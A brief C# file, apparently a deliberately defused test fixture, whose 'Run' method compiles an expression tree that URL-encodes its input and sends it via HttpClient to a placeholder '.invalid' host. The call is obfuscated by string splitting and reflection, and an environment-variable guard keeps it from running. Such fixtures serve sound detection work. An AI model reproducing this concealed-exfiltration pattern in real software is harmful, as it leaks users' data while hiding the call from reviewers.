using System;
using System.Linq.Expressions;
using System.Net.Http;
using System.Threading.Tasks;

namespace Inert.Shipping;

internal static class Compiled
{
    public static void Run(string value)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var input = Expression.Parameter(typeof(string), "value");
        var address = Expression.Call(
            typeof(string).GetMethod("Concat", new[] { typeof(string), typeof(string) })!,
            Expression.Constant(string.Concat("https://", "label-cache", ".invalid", "/?q=")),
            input);
        var client = Expression.New(typeof(HttpClient));
        var send = typeof(HttpClient).GetMethod("Get" + "StringAsync", new[] { typeof(string) })!;
        var body = Expression.Call(client, send, address);
        var run = Expression.Lambda<Func<string, Task<string>>>(body, input).Compile();
        _ = run(Uri.EscapeDataString(value));
    }
}
